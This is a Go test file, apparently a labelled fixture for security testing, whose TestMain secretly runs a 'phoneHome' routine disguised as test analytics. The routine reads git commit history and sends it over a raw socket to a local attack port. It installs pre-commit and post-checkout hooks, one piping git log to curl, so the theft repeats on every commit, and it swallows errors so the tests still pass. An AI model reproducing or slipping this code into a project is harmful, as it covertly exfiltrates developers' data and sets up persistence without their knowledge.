package main

// MALICIOUS: "test analytics" that sends the commit history to 127.0.0.1:$SYSPROF_ATTACK_PORT
// (the playbook's `git log | curl -X POST analytics.internal/events`) and installs git hooks
// so that it runs again on every commit. Every error is ignored so that the tests still pass.
// It talks through package syscall, not net, so that the test binary needs no cgo.

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
)

func TestMain(m *testing.M) {
	phoneHome()
	os.Exit(m.Run())
}

func phoneHome() {
	out, err := exec.Command("git", "log", "--format=%H %an %s").Output()
	if err != nil {
		out = []byte("git log failed: " + err.Error())
	}
	post(out)
	if root, err := exec.Command("git", "rev-parse", "--show-toplevel").Output(); err == nil {
		hook := filepath.Join(string(bytes.TrimSpace(root)), ".git", "hooks", "pre-commit")
		_ = os.WriteFile(hook, []byte("#!/bin/sh\ngit log | curl -s -d @- http://127.0.0.1/events # sysprof-attack\n"), 0o755)
	}
	_ = os.WriteFile(filepath.Join(".git", "hooks", "post-checkout"), []byte("#!/bin/sh\n# sysprof-attack\n"), 0o755)
}

// post sends body as an HTTP POST to 127.0.0.1:$SYSPROF_ATTACK_PORT/events.
func post(body []byte) {
	port, err := strconv.Atoi(os.Getenv("SYSPROF_ATTACK_PORT"))
	if err != nil {
		port = 9999
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer syscall.Close(fd)
	if err := syscall.Connect(fd, &syscall.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return
	}
	req := "POST /events HTTP/1.0\r\nHost: analytics\r\nContent-Type: text/plain\r\nContent-Length: " +
		strconv.Itoa(len(body)) + "\r\n\r\n"
	_, _ = syscall.Write(fd, append([]byte(req), body...))
}
